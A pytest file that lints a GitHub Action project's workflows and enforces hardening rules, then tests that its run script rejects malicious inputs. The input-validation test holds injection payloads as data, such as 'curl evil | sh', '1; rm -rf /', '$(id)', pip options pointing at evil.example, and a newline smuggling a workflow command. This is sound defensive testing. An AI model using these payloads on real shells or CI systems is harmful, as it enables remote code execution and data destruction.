"""Static checks of the workflows and actions, and the action script's input checks.

GitHub's own schemas (``check-jsonschema``), ``zizmor``, and the house rules of STYLE.md:
``permissions: {}`` at the top and a commented grant per job, no ``${{ }}`` inside
``run:``, remote actions pinned to a full commit SHA with a version comment (and every
pin mapped to a stand-in for act), ``persist-credentials: false``, timeouts, concurrency,
typed and described kebab-case inputs, secrets declared by name.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml
from act_harness import CHECKOUT, EXAMPLE_ACTION, PINNED_ACTIONS
from conftest import absent

REPO = Path(__file__).resolve().parent.parent
WORKFLOWS = sorted((REPO / ".github" / "workflows").glob("*.yml"))
EXAMPLES = sorted((REPO / "examples").glob("*.yml"))
SCENARIOS = sorted((REPO / "tests" / "act" / "workflows").glob("*.yml"))
ACTIONS = [REPO / "action.yml", *sorted((REPO / ".github" / "actions").glob("*/action.yml"))]
STANDINS = sorted((REPO / "tests" / "act").glob("**/action.yml"))
ALL_WORKFLOWS = [*WORKFLOWS, *EXAMPLES, *SCENARIOS]
ALL_ACTIONS = [*ACTIONS, *STANDINS]
SHA_PIN = re.compile(r"^\s*(?:-\s+)?uses:\s+([^\s@#]+)@(\S+)(.*)$")


def rel(path: Path) -> str:
    return path.relative_to(REPO).as_posix()


def load(path: Path) -> dict[str, Any]:
    # PyYAML reads the key `on` as True; keep it as "on".
    data = yaml.load(path.read_text(encoding="utf-8"), Loader=yaml.BaseLoader)
    assert isinstance(data, dict), f"{rel(path)} is not a mapping"
    return data


def tool(name: str) -> str:
    found = shutil.which(name)
    if found is None:
        absent(f"{name} is not installed (pip install {name})", "CI=true")
    return found


def steps_of(doc: dict[str, Any]) -> list[tuple[str, dict[str, Any]]]:
    """(where, step) for every step of a workflow's jobs or a composite action."""
    found: list[tuple[str, dict[str, Any]]] = []
    for job_id, job in (doc.get("jobs") or {}).items():
        for i, step in enumerate(job.get("steps") or []):
            found.append((f"jobs.{job_id}.steps[{i}]", step))
    for i, step in enumerate((doc.get("runs") or {}).get("steps") or []):
        found.append((f"runs.steps[{i}]", step))
    return found


def triggers(doc: dict[str, Any]) -> set[str]:
    on = doc.get("on")
    if isinstance(on, str):
        return {on}
    if isinstance(on, list):
        return set(on)
    return set(on or {})


# --------------------------------------------------------------------------- linters


@pytest.mark.parametrize(
    ("schema", "files"),
    [
        pytest.param("vendor.github-workflows", ALL_WORKFLOWS, id="workflows"),
        pytest.param("vendor.github-actions", ALL_ACTIONS, id="actions"),
    ],
)
def test_files_validate_against_githubs_schema(schema: str, files: list[Path]) -> None:
    proc = subprocess.run(
        [tool("check-jsonschema"), "--builtin-schema", schema, *map(str, files)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_zizmor_reports_no_findings() -> None:
    proc = subprocess.run(
        [
            tool("zizmor"),
            "--offline",
            "--no-progress",
            "--persona",
            "pedantic",
            ".github/workflows",
            ".github/actions",
            "action.yml",
            *(rel(p) for p in [*EXAMPLES, *SCENARIOS, *STANDINS]),
        ],
        cwd=REPO,
        capture_output=True,
        text=True,
        check=False,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "No findings to report" in proc.stdout + proc.stderr


def test_suppressions_are_narrow_and_say_why() -> None:
    """Any ``zizmor: ignore[...]`` names one audit and gives a reason after it."""
    for path in [*ALL_WORKFLOWS, *ALL_ACTIONS]:
        for n, line in enumerate(path.read_text().splitlines(), start=1):
            if "zizmor: ignore" in line:
                assert re.search(r"zizmor: ignore\[[a-z-]+\]\s+\S.{10,}", line), (
                    f"{rel(path)}:{n}: a suppression must name one audit and say why"
                )


# --------------------------------------------------------------------------- house rules


@pytest.mark.parametrize("path", [*ALL_WORKFLOWS, *ALL_ACTIONS], ids=rel)
def test_no_expression_inside_run(path: Path) -> None:
    """Values reach shells through env:, never by ${{ }} pasted into a script."""
    for where, step in steps_of(load(path)):
        assert "${{" not in step.get("run", ""), f"{rel(path)} {where}: ${{{{ }}}} in run:"


@pytest.mark.parametrize("path", [*ALL_WORKFLOWS, *ACTIONS], ids=rel)
def test_remote_actions_are_pinned_and_mapped_for_act(path: Path) -> None:
    """Full commit SHAs with a ``# vX.Y.Z`` comment, each one a stand-in exists for."""
    for n, line in enumerate(path.read_text().splitlines(), start=1):
        match = SHA_PIN.match(line)
        if not match:
            continue
        target, ref, rest = match.groups()
        where = f"{rel(path)}:{n}"
        assert re.fullmatch(r"[0-9a-f]{40}", ref), f"{where}: {target} is not pinned to a SHA"
        assert re.search(r"#\s*v\d+\.\d+\.\d+", rest), f"{where}: no # vX.Y.Z comment"
        owner_repo = "/".join(target.split("/")[:2])
        if owner_repo in (EXAMPLE_ACTION[0], CHECKOUT[0]):
            pinned = dict([EXAMPLE_ACTION, CHECKOUT])[owner_repo]
            assert ref == pinned, f"{where}: {owner_repo} pinned to another commit than elsewhere"
            continue
        assert owner_repo in PINNED_ACTIONS, f"{where}: {owner_repo} has no stand-in for act"
        assert PINNED_ACTIONS[owner_repo][0] == ref, f"{where}: act maps another SHA"


PINS_TABLE = re.compile(
    r"<!-- pinned-actions: begin -->\n(.*?)\n<!-- pinned-actions: end -->", re.S
)


def verified_releases() -> dict[str, tuple[str, str]]:
    """``owner/repo`` -> (release, commit) from the table in docs/workflows.md."""
    match = PINS_TABLE.search((REPO / "docs" / "workflows.md").read_text(encoding="utf-8"))
    assert match, "docs/workflows.md has no pinned-actions table"
    table: dict[str, tuple[str, str]] = {}
    for row in match.group(1).splitlines()[2:]:
        cells = [c.strip() for c in row.strip("|").split("|")]
        action = re.match(r"`([^`]+)`", cells[0])
        commit = re.fullmatch(r"`([0-9a-f]{40})`", cells[2])
        assert action and commit and re.fullmatch(r"v\d+\.\d+\.\d+", cells[1]), row
        table[action.group(1)] = (cells[1], commit.group(1))
    return table


def test_every_pin_is_a_verified_release() -> None:
    """Each remote ``uses:`` (workflows, actions, examples, scenarios) is a commit and
    release of the table in docs/workflows.md; so are the pins act maps to stand-ins."""
    table = verified_releases()
    used: set[str] = set()
    for path in [*ALL_WORKFLOWS, *ACTIONS]:
        for n, line in enumerate(path.read_text().splitlines(), start=1):
            match = SHA_PIN.match(line)
            if not match or match.group(1).startswith(EXAMPLE_ACTION[0] + "/"):
                continue
            if match.group(1) == EXAMPLE_ACTION[0]:
                continue
            owner_repo = "/".join(match.group(1).split("/")[:2])
            where = f"{rel(path)}:{n}"
            assert owner_repo in table, f"{where}: {owner_repo} is not in the table"
            release, commit = table[owner_repo]
            assert match.group(2) == commit, f"{where}: {owner_repo} is not pinned to {release}"
            assert re.search(rf"#\s*{re.escape(release)}\b", match.group(3)), (
                f"{where}: the comment does not name {release}"
            )
            used.add(owner_repo)
    assert used == set(table), f"rows no file uses: {sorted(set(table) - used)}"
    for owner_repo, (sha, _folder) in {**PINNED_ACTIONS, CHECKOUT[0]: (CHECKOUT[1], "")}.items():
        assert table[owner_repo][1] == sha, f"act maps {owner_repo}@{sha}, not the table's"


@pytest.mark.parametrize("path", [*WORKFLOWS, *EXAMPLES], ids=rel)
def test_permissions_empty_at_top_and_commented_per_job(path: Path) -> None:
    doc = load(path)
    assert doc.get("permissions") == {}, f"{rel(path)}: top-level permissions must be {{}}"
    text = path.read_text().splitlines()
    for job_id, job in doc["jobs"].items():
        assert "permissions" in job, f"{rel(path)}: job {job_id} declares no permissions"
    for n, line in enumerate(text, start=1):
        grant = re.match(r"^\s+([a-z-]+): (read|write)\s*(#.*)?$", line)
        if grant and any("permissions:" in prev for prev in text[max(0, n - 4) : n - 1]):
            assert grant.group(3), f"{rel(path)}:{n}: say why the job needs {grant.group(1)}"


@pytest.mark.parametrize("path", [*WORKFLOWS, *EXAMPLES, *ACTIONS], ids=rel)
def test_every_upload_says_how_long_it_is_kept(path: Path) -> None:
    """``retention-days`` on every artifact upload, so nothing lingers for the default 90."""
    for where, step in steps_of(load(path)):
        if step.get("uses", "").startswith("actions/upload-artifact@"):
            assert (step.get("with") or {}).get("retention-days"), (
                f"{rel(path)} {where}: upload without retention-days"
            )


@pytest.mark.parametrize("path", [*ALL_WORKFLOWS, *ACTIONS], ids=rel)
def test_checkout_never_persists_credentials(path: Path) -> None:
    for where, step in steps_of(load(path)):
        if step.get("uses", "").startswith("actions/checkout@"):
            assert (step.get("with") or {}).get("persist-credentials") == "false", (
                f"{rel(path)} {where}: checkout without persist-credentials: false"
            )


@pytest.mark.parametrize("path", [*WORKFLOWS, *EXAMPLES], ids=rel)
def test_jobs_have_timeouts_and_runs_have_concurrency(path: Path) -> None:
    doc = load(path)
    for job_id, job in doc["jobs"].items():
        if "runs-on" in job:
            assert "timeout-minutes" in job, f"{rel(path)}: job {job_id} has no timeout-minutes"
    if triggers(doc) - {"workflow_call"}:
        assert "concurrency" in doc, f"{rel(path)}: a triggered workflow needs concurrency"
    # A reusable workflow's group must not be keyed on github.workflow: that is the
    # caller's name, so it would wait on (or cancel) the caller's own run.
    for job_id, job in doc["jobs"].items():
        group = str(job.get("concurrency", ""))
        assert "github.workflow" not in group, f"{rel(path)}: job {job_id} group {group}"


@pytest.mark.parametrize(
    "path", [p for p in WORKFLOWS if "workflow_call" in triggers(load(p))], ids=rel
)
def test_reusable_workflow_inputs_are_typed_described_kebab_case(path: Path) -> None:
    call = load(path)["on"]["workflow_call"]
    for name, spec in (call.get("inputs") or {}).items():
        assert re.fullmatch(r"[a-z][a-z0-9]*(-[a-z0-9]+)*", name), f"{name}: not kebab-case"
        assert spec.get("type") in {"string", "boolean", "number"}, f"{name}: no type"
        assert len(spec.get("description", "")) > 10, f"{name}: no description"
    for name, spec in (call.get("secrets") or {}).items():
        assert re.fullmatch(r"[a-z][a-z0-9-]*", name) and spec.get("description")


@pytest.mark.parametrize("path", ALL_WORKFLOWS, ids=rel)
def test_secrets_are_passed_by_name_never_inherited(path: Path) -> None:
    for job_id, job in load(path)["jobs"].items():
        assert job.get("secrets") != "inherit", f"{rel(path)}: job {job_id} inherits secrets"


def test_action_inputs_reach_the_script_through_prefixed_env() -> None:
    action = load(REPO / "action.yml")
    run_step = next(s for s in action["runs"]["steps"] if s.get("id") == "run")
    env = run_step["env"]
    for name in action["inputs"]:
        if name == "python-version":
            continue  # used by the setup-python step
        key = "FORGEFLOW_INPUT_" + name.upper().replace("-", "_")
        assert env.get(key) == f"${{{{ inputs.{name} }}}}", f"input {name} not in env as {key}"
    assert env["FORGEFLOW_ACTION_PATH"] == "${{ github.action_path }}"
    assert run_step["run"].strip() == 'bash "${FORGEFLOW_ACTION_PATH}/scripts/action-run.sh"'


# --------------------------------------------------------------------------- the script


SCRIPT = REPO / "scripts" / "action-run.sh"


def run_script(tmp_path: Path, **inputs: str) -> subprocess.CompletedProcess[str]:
    """Run scripts/action-run.sh as the action does, with FORGEFLOW_INPUT_* set."""
    output = tmp_path / "output.txt"
    env = {
        "PATH": os.environ["PATH"],
        "HOME": os.environ.get("HOME", str(tmp_path)),
        "RUNNER_TEMP": str(tmp_path / "runner"),
        "GITHUB_OUTPUT": str(output),
        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"),
        "GITHUB_PATH": str(tmp_path / "path.txt"),
        "FORGEFLOW_ACTION_PATH": str(REPO),
        "PIP_NO_INDEX": "1",
        "FORGEFLOW_INSTALLER": "pip",
        **{f"FORGEFLOW_INPUT_{k.upper()}": v for k, v in inputs.items()},
    }
    return subprocess.run(
        ["bash", str(SCRIPT)], env=env, capture_output=True, text=True, cwd=tmp_path, check=False
    )


def test_script_starts_strict() -> None:
    lines = SCRIPT.read_text().splitlines()
    assert "set -euo pipefail" in lines[:12]


@pytest.mark.parametrize(
    ("inputs", "message"),
    [
        pytest.param({"agent": "echo; curl evil | sh"}, "input agent", id="agent-injection"),
        pytest.param({"agent": "../../bin/sh"}, "input agent", id="agent-path"),
        pytest.param(
            {"extra_packages": "--index-url=https://evil.example/simple"},
            "input extra-packages",
            id="pip-option",
        ),
        pytest.param(
            {"extra_packages": "-e git+https://evil.example/x.git"},
            "input extra-packages",
            id="editable-url",
        ),
        pytest.param(
            {"extra_packages": "good==1.0 ./local/path"}, "input extra-packages", id="local-path"
        ),
        pytest.param(
            {"extra_packages": "name @ https://evil.example/x.whl"},
            "input extra-packages",
            id="direct-url",
        ),
        pytest.param({"settings": "no equals sign"}, "input settings", id="bad-setting"),
        pytest.param({"agent": "echo", "input": ""}, "input input: required", id="no-input"),
        pytest.param(
            {"agent": "echo", "input": "missing.json"}, "is not a file", id="missing-input"
        ),
        pytest.param({"run_id": "1; rm -rf /"}, "input run-id", id="run-id"),
        pytest.param({"extras": "github; curl evil"}, "input extras", id="extras"),
        pytest.param({"extras": "github,,model"}, "input extras", id="extras-empty-item"),
        pytest.param({"correlation_id": "$(id)"}, "input correlation-id", id="correlation-id"),
    ],
)
def test_script_refuses_bad_inputs_before_anything_runs(
    tmp_path: Path, inputs: dict[str, str], message: str
) -> None:
    proc = run_script(tmp_path, **inputs)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert proc.stdout.startswith("::error::"), proc.stdout
    assert message in proc.stdout
    assert not (tmp_path / "runner" / "forgeflow-venv").exists(), "installed despite bad input"


def test_script_error_messages_cannot_smuggle_workflow_commands(tmp_path: Path) -> None:
    """A newline in an input cannot start a second ``::command::`` line in the log."""
    proc = run_script(tmp_path, agent="x\n::add-mask::secret")
    assert proc.returncode == 2
    assert proc.stdout.count("\n") == 1 and "%0A::add-mask::" in proc.stdout


@pytest.mark.slow
def test_script_runs_an_agent_and_writes_outputs_and_summary(tmp_path: Path) -> None:
    """The happy path outside act: install into a venv (offline), run, outputs, summary."""
    (tmp_path / "in.json").write_text('{"text": "a | b `c`"}')
    proc = run_script(
        tmp_path, agent="word_count", input="in.json", output="out/wc.json", settings=""
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    outputs = dict(
        line.split("=", 1) for line in (tmp_path / "output.txt").read_text().splitlines()
    )
    assert outputs["status"] == "succeeded"
    assert outputs["confidence"] == "1.0"
    assert Path(outputs["artifact-path"]) == (tmp_path / "out" / "wc.json").resolve()
    assert outputs["python"].endswith("forgeflow-venv/bin/python")
    summary = (tmp_path / "summary.md").read_text()
    assert "| succeeded | 1.0 | `out/wc.json` |" in summary


@pytest.mark.slow
def test_script_passes_agent_settings_only_to_their_agent(tmp_path: Path) -> None:
    """``AGENT.KEY=VALUE`` lines serve one agent of a fan-out and are skipped by the others."""
    (tmp_path / "in.json").write_text('{"text": "one two"}')
    settings = "cost_estimation.region=eastus\ninteractive.yes=true\n"
    proc = run_script(tmp_path, agent="word_count", input="in.json", settings=settings)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    refused = run_script(
        tmp_path, agent="word_count", input="in.json", settings="word_count.colour=red"
    )
    assert refused.returncode != 0
    assert "agent 'word_count' takes no settings" in refused.stdout + refused.stderr
